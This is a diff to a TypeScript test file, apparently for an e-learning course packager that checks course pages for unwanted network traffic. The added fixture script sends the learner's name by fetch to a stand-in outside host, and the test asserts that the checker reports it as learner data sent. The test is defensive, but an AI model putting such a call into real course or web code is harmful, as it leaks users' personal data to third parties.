@@ -3,8 +3,9 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { findChromium } from '../../packager/lms/browser.ts';
-import type { Recording } from '../../packager/lms/recording.ts';
+import { LEARNER } from '../../packager/lms/page-config.ts';
 import { THREE_VISITS } from '../../packager/lms/plan.ts';
+import type { Recording } from '../../packager/lms/recording.ts';
 import { type RunCut, type RunOptions, runPackage } from '../../packager/lms/robot.ts';
 import { judge } from '../../packager/lms/verdict.ts';
 import type { RunKey } from '../../packager/lms/verdict-words.ts';
@@ -167,15 +168,22 @@ describe.concurrent('a course that', () => {
         navigator.sendBeacon('http://${own}/beacon', 'x');
         new WebSocket('ws://${own}/socket');
         fetch('http://192.0.2.7/number').catch(() => {});
+        fetch('http://192.0.2.8/${encodeURIComponent(LEARNER.name)}', { method: 'POST', body: 'x' }).catch(() => {});
         addEventListener('pagehide', () => void fetch('http://${own}/last', { mode: 'no-cors', keepalive: true }));
       </script><main`,
     );
-    const [first] = await run({ 'index.html': page }, ['strict']);
+    const recordings = await run({ 'index.html': page }, ['strict']);
+    const [first] = recordings;
     neighbour.close();
+    expect(judge(recordings).find(({ key }) => key === 'learner-data-sent')?.data).toMatchObject({
+      datum: 'name',
+      host: '192.0.2.8',
+    });
     expect(reached).toBe(0);
     expect([...(first?.network ?? [])].sort()).toEqual([
       ...['beacon', 'cors', 'last', 'no-cors'].map((name) => `http://${own}/${name}`),
       'http://192.0.2.7/number',
+      `http://192.0.2.8/${encodeURIComponent(LEARNER.name)}`,
       `ws://${own}/socket`,
     ]);
   });
